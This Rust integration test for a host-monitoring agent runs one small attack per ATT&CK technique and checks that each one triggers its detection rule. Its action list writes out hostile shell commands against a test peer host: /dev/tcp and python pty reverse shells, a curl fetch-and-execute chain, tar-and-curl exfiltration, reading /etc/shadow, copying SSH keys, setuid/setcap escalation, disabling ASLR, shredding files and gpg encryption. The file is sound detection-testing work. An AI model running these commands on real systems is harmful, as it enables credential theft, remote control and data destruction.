//! An attack suite, one small real action per ATT&CK technique, run as root on a host
//! watched by an agent (processes, listening sockets, network on a link to a second
//! host, reads of sensitive files, file changes under the test's folder) through the
//! collector and the built-in rules: each action must raise the alert written for it.
//! The actions are the ones a third-party suite found unseen (issue #18) and their
//! neighbours; the "other host" is a network namespace joined by veth, serving files
//! over HTTP and answering a reverse shell with `exit`. Harmless by construction: every
//! file touched is under the test's folder, and ASLR is set back at once. Prints caught
//! and tried by tactic. Needs root, iproute2, python3, curl, gpg, shred, setcap, as CI
//! has.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use vigie_tests::peer::Peer;
use vigie_tests::{wait_for, wait_for_log, Stack};

/// One action: its tactic, technique, what it does, the shell script, the rules that
/// must fire.
struct Action {
    tactic: &'static str,
    technique: &'static str,
    script: String,
    rules: &'static [&'static str],
}

/// The other host's servers: HTTP on 8080 (GET serves the folder, PUT is taken), and a
/// TCP port 4444 that answers `exit` to whatever connects.
const SERVERS: &str = r#"
import http.server, os, socket, sys, threading
host, folder = sys.argv[1], sys.argv[2]
os.chdir(folder)
class Files(http.server.SimpleHTTPRequestHandler):
    def do_PUT(self):
        self.rfile.read(int(self.headers.get('Content-Length', 0)))
        self.send_response(201)
        self.end_headers()
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer((host, 8080), Files)
threading.Thread(target=server.serve_forever, daemon=True).start()
shell = socket.socket()
shell.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
shell.bind((host, 4444))
shell.listen(16)
print('ready', flush=True)
while True:
    c, _ = shell.accept()
    try:
        c.sendall(b'exit\n')
        c.settimeout(2)
        c.recv(100)
    except OSError:
        pass
    c.close()
"#;

struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn sh(script: &str) {
    // Each action in a shell of its own, as an intruder's commands would be; failures
    // of the commands themselves do not matter (a refused PUT is still an upload).
    let _ = Command::new("/bin/sh")
        .arg("-c")
        .arg(script)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
}

fn actions(dir: &Path, peer: &str) -> Vec<Action> {
    let d = dir.display();
    let scratch = format!("/dev/shm/vigie-suite-{}", std::process::id());
    vec![
        Action {
            tactic: "credential access",
            technique: "T1003.008",
            script: "cat /etc/shadow > /dev/null".into(),
            rules: &[
                "54ab2434-6443-4120-b4e0-185c7e199061",
                "38202f93-dd73-4505-a22d-54f5e9b7747b",
            ],
        },
        Action {
            tactic: "credential access",
            technique: "T1552.004",
            script: format!("cp {d}/home/.ssh/id_rsa {d}/loot-key"),
            rules: &[
                "247c6110-b063-4375-8f4b-cba018f75b4b",
                "eb2e22e0-4b4d-40df-8156-3e9be17fdb51",
            ],
        },
        Action {
            tactic: "credential access",
            technique: "T1003.007",
            script: format!(
                "sleep 5 & /usr/bin/python3 -c \"open('/proc/$!/mem', 'rb')\"; kill $! 2>/dev/null; echo {d} > /dev/null"
            ),
            rules: &["2ac72e57-6766-460d-96cd-bd514dc96bf3"],
        },
        Action {
            tactic: "exfiltration",
            technique: "T1552, T1041",
            script: format!(
                "cat /etc/shadow > /dev/null; /usr/bin/python3 -c \"import socket; socket.create_connection(('{peer}', 4444), 5).sendall(b'x')\""
            ),
            rules: &["bcb0b242-380a-4279-92bc-dad34ab5766c"],
        },
        Action {
            tactic: "defense evasion",
            technique: "T1070.003",
            script: format!("cat /dev/null > {d}/home/.bash_history"),
            rules: &["8095813f-69d7-4804-9ebe-c9bfbd89b8a6"],
        },
        Action {
            tactic: "defense evasion",
            technique: "T1562.001",
            script: "old=$(sysctl -n kernel.randomize_va_space); sysctl -w kernel.randomize_va_space=0; sysctl -w kernel.randomize_va_space=$old".into(),
            rules: &["25049cdf-56ad-4c84-9500-650c7a342740"],
        },
        Action {
            tactic: "defense evasion",
            technique: "T1070.006",
            script: format!("touch -m -t 202001010000 {d}/report.txt"),
            rules: &["1caee418-e0be-4bf1-ae3b-c0430233228d"],
        },
        Action {
            tactic: "defense evasion",
            technique: "T1036.005",
            script: format!("mkdir -p {d}/.cache && cp /bin/sleep {d}/.cache/sshd && {d}/.cache/sshd 0"),
            rules: &["9428ae28-538a-40c3-9950-683443149043"],
        },
        Action {
            tactic: "privilege escalation",
            technique: "T1548.001",
            script: format!("cp /bin/true {d}/helper && chmod u+s {d}/helper"),
            rules: &["bf40b1a9-29cd-4a85-b5f0-898a520c1fee"],
        },
        Action {
            tactic: "privilege escalation",
            technique: "T1548",
            script: format!("cp /bin/true {d}/pyth && setcap cap_setuid+ep {d}/pyth"),
            rules: &["804fe094-289e-4f6e-9251-608c5dc3da39"],
        },
        Action {
            tactic: "persistence",
            technique: "T1098.004",
            script: format!("mkdir -p {d}/root/.ssh && echo 'ssh-ed25519 AAAA intruder' >> {d}/root/.ssh/authorized_keys"),
            rules: &["1b7e0c2a-4d3f-4e5a-9b6c-7d8e9f0a1b04"],
        },
        Action {
            tactic: "execution",
            technique: "T1059.004",
            script: format!("bash -c 'exec 3<>/dev/tcp/{peer}/4444; read -t 2 line <&3'"),
            rules: &[
                "1b7e0c2a-4d3f-4e5a-9b6c-7d8e9f0a1b10",
                "745e3679-5a82-4cb7-8eba-54df1ba4a2eb",
            ],
        },
        Action {
            tactic: "execution",
            technique: "T1059.006",
            script: format!(
                "/usr/bin/python3 -c 'import socket,os,pty;s=socket.create_connection((\"{peer}\",4444),5);[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
            ),
            rules: &["cb524020-6f69-4d25-844a-01035bd313d3"],
        },
        Action {
            tactic: "command and control",
            technique: "T1105",
            script: format!(
                "mkdir -p {scratch} && curl -s -o {scratch}/update http://{peer}:8080/payload && chmod +x {scratch}/update && {scratch}/update; rm -rf {scratch}"
            ),
            rules: &["0d6e3b2a-5f41-4c8e-9a17-3b2c8d4e6f04"],
        },
        Action {
            tactic: "exfiltration",
            technique: "T1560.001, T1048",
            script: format!("tar czf {d}/d.tgz -C {d} data && curl -s -T {d}/d.tgz http://{peer}:8080/up"),
            rules: &[
                "5a9c1e7d-2b84-4f36-8d0a-6e1f3c5b7a03",
                "6ace8d43-d7bb-4a51-8b69-2864354ac284",
            ],
        },
        Action {
            tactic: "impact",
            technique: "T1485",
            script: format!("shred -u {d}/data/ledger.csv"),
            rules: &["5403b759-3f4c-45c0-9bdf-0621429e1590"],
        },
        Action {
            tactic: "impact",
            technique: "T1486",
            script: format!("gpg --batch --yes --passphrase x -c {d}/data/budget.csv"),
            rules: &["9ceb8d6a-552e-43b1-8b95-587b066acde5"],
        },
        Action {
            tactic: "discovery",
            technique: "T1033, T1082, T1016, T1049, T1057",
            script: "id; uname -a; ip a; ss -tan; ps aux; cat /etc/passwd; hostname".into(),
            rules: &["4794dc01-4892-40c1-986b-28161c61d259"],
        },
        Action {
            tactic: "discovery",
            technique: "T1046",
            script: format!(
                "/usr/bin/python3 -c \"import socket\nfor p in range(20000, 20030):\n    s = socket.socket(); s.settimeout(0.3)\n    s.connect_ex(('{peer}', p)); s.close()\""
            ),
            rules: &["1b7e0c2a-4d3f-4e5a-9b6c-7d8e9f0a1b15"],
        },
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn each_attack_raises_the_alert_written_for_it() {
    let stack = Stack::start("").await;
    let remote = Peer::new(239);
    let dir = stack.path("agent-watched");
    std::fs::create_dir_all(dir.join("home/.ssh")).unwrap();
    std::fs::create_dir_all(dir.join("data")).unwrap();
    std::fs::write(
        dir.join("home/.ssh/id_rsa"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    std::fs::write(dir.join("home/.bash_history"), "mysql -p secret\n").unwrap();
    std::fs::write(dir.join("report.txt"), "rapport\n").unwrap();
    std::fs::write(dir.join("data/ledger.csv"), "compte;montant\n").unwrap();
    std::fs::write(dir.join("data/budget.csv"), "ligne;crédit\n").unwrap();
    let extra = format!(
        "[batch]\nflush_ms = 100\n\n[process]\nlisten_interval_secs = 1\n\n\
         [network]\ninterfaces = [\"{}h\"]\n\n[reads]\npaths = [\"/etc/shadow\", \"{}/home/.ssh/id_rsa\"]\n",
        remote.ns,
        dir.display()
    );
    let config = stack.agent_config("agent", &dir, "", &extra).await;
    let _agent = stack.start_agent("agent", &config).await;
    wait_for_log(
        &stack.path("agent.log"),
        "reads of sensitive files, from eBPF",
        Duration::from_secs(30),
    )
    .await;

    // The other host.
    let served = stack.path("served");
    std::fs::create_dir_all(&served).unwrap();
    std::fs::write(served.join("payload"), "#!/bin/sh\ntrue\n").unwrap();
    let script = stack.path("servers.py");
    std::fs::write(&script, SERVERS).unwrap();
    let mut servers = Command::new("ip")
        .args(["netns", "exec", &remote.ns, "/usr/bin/python3"])
        .arg(&script)
        .arg(&remote.peer_ip)
        .arg(&served)
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let ready = std::io::BufRead::lines(std::io::BufReader::new(servers.stdout.take().unwrap()))
        .next()
        .and_then(Result::ok);
    let _servers = Killed(servers);
    assert_eq!(
        ready.as_deref(),
        Some("ready"),
        "the other host's servers start"
    );

    let actions = actions(&dir, &remote.peer_ip);
    for action in &actions {
        sh(&action.script);
    }
    // A listener opened here and used from the other host.
    let listener = Killed(
        Command::new("/usr/bin/python3")
            .args(["-m", "http.server", "8765", "--bind", &remote.host_ip])
            .current_dir(&served)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    tokio::time::sleep(Duration::from_secs(3)).await;
    let fetch = format!("http://{}:8765/payload", remote.host_ip);
    wait_for(
        "the new listener answers",
        Duration::from_secs(20),
        || async {
            remote
                .run("curl", &["-s", "-o", "/dev/null", &fetch])
                .then_some(())
        },
    )
    .await;
    drop(listener);
    let listener_rule = "9e2f4a6c-8b13-4d57-a0c9-1f3e5d7b9a03";

    // Wait for every expected alert (a minute for all), then report by tactic.
    let mut expected: Vec<(&str, &str, &str)> = actions
        .iter()
        .flat_map(|a| a.rules.iter().map(move |r| (a.tactic, a.technique, *r)))
        .collect();
    expected.push(("command and control", "T1571, T1205", listener_rule));
    let deadline = Instant::now() + Duration::from_secs(60);
    let fired = loop {
        let fired: Vec<String> = stack
            .client
            .query("SELECT DISTINCT rule_id FROM alerts")
            .fetch_all()
            .await
            .unwrap();
        if expected
            .iter()
            .all(|(_, _, r)| fired.iter().any(|f| f == r))
            || Instant::now() > deadline
        {
            break fired;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    };
    let mut by_tactic: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    let mut missed = Vec::new();
    for (tactic, technique, rule) in &expected {
        let entry = by_tactic.entry(tactic).or_default();
        entry.1 += 1;
        if fired.iter().any(|f| f == rule) {
            entry.0 += 1;
        } else {
            missed.push(format!("{tactic} {technique}: rule {rule}"));
        }
    }
    println!("caught / tried, by tactic (one line per expected alert):");
    for (tactic, (caught, tried)) in &by_tactic {
        println!("  {tactic}: {caught}/{tried}");
    }
    if !missed.is_empty() {
        let events: Vec<String> = stack
            .client
            .query("SELECT concat(category, ' ', fields) FROM events WHERE category != 'agent_health' ORDER BY seq")
            .fetch_all()
            .await
            .unwrap();
        panic!("missed: {missed:#?}\nevents: {events:#?}");
    }
}
